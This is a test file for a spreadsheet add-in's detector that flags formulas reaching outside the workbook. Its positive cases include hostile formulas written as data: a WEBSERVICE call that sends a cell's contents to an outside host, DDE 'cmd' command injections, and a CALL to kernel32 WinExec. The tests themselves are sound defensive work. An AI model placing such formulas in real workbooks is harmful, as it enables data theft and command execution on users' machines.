import fc from "fast-check";
import { reachesOutside } from "../../src/workbook/outwardFormulas";
import { linkFormulas } from "../../src/workbook/scoreLinks";
import { roundFormulas } from "../../src/workbook/roundFormulas";
import { butlerFormula } from "../../src/workbook/makeButler";
import { datumFormula } from "../../src/workbook/datumSheet";
import { roundHeadings } from "../../src/workbook/bookTables";

test.each([
  '=WEBSERVICE("http://example.org/?"&A1)',
  "=_xlfn.WEBSERVICE(B1)+DESK.VP(1,8)",
  "=DESK.IMP(filterxml(A1,B1))",
  '=HYPERLINK("https://example.org","Results")',
  '=IMAGE("https://example.org/x.png")',
  "=_xlws.IMAGE(A1)",
  '=RTD("prog.id",,"topic")',
  '=CALL("kernel32","WinExec","JCJ",A1,0)',
  '=REGISTER.ID("a","b")',
  "=cmd|'/C calc'!A0",
  "='cmd|/C calc'!A0",
  "=DESK.VP(Excel|'C:\\x.xls'!R1C1,8)",
  "=[Book1.xlsx]Sheet1!$A$1+DESK.VP(1,8)",
  "=SUM([1]Sheet1!A1:A9)",
  "=[1]!Total",
  "='C:\\files\\[Book 1.xlsx]Sheet 1'!A1",
  "='https://example.org/[b.xlsx]S'!A1",
  "='http://example.org/x'!A1",
  "=Book1.xlsx!Total",
  "='My Book.xlsm'!Total",
  '=STOCKHISTORY("MSFT",1)',
  '=CUBEVALUE("c","[Measures].[x]")',
  "=MAP(A1:A3,WEBSERVICE)",
])("%s reaches outside", (formula) => {
  expect(reachesOutside(formula)).toBe(true);
});

test.each([
  "=DESK.VP(B2-C2,16,Event!$B$9)",
  "=DESK.STANDINGS(DeskEvent,DeskEntrants[#All],DeskRound1[#All])",
  '=IF([@Contract]="","",DESK.BRIDGESCORE([@Contract],[@Result],[@Board],[@By]))',
  "=DeskRound1[[#This Row],[Home IMPs]]-'Round 1'!B2",
  '=DESK.NOTE("http://example.org | [x.xlsx]S!A1 WEBSERVICE(")',
  "='It''s round 1'!A1+'Datum 1'!$A$4:$H$9",
  "=SUM(Table1[Image])+HYPERLINKS+Table1[['[x']]]",
  "=DESK.IMP(B2:B17)#",
])("%s stays within", (formula) => {
  expect(reachesOutside(formula)).toBe(false);
});

test("none of the add-in's own formulas is asked about", () => {
  const kinds = { result: "Result", homeVP: "Home VP", awayVP: "Away VP" };
  const around = { entrants: { number: "No.", name: "Name" }, kinds, scale: "'Event'!$B$9" };
  const cells = () => "'Datum 1'!$A$4:$A$9";
  const all = [
    ...Object.values(roundFormulas({ locale: "zh-CN", entry: "imps" }, 1, around)),
    ...Object.values(
      linkFormulas(1, roundHeadings("en"), { ...around, teams: "'结果'!$O$5", matchCells: cells })
    ),
    butlerFormula("PAIRS", { sort: "XIMP", byRound: true, ranked: true }, true),
    datumFormula(3),
  ];
  expect(all.length).toBeGreaterThan(10);
  expect(all.filter((formula) => reachesOutside(formula))).toEqual([]);
});

test("whatever stands in a text is a text", () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(reachesOutside(`=DESK.VP("${text.replaceAll('"', '""')}",8)`)).toBe(false);
    })
  );
});
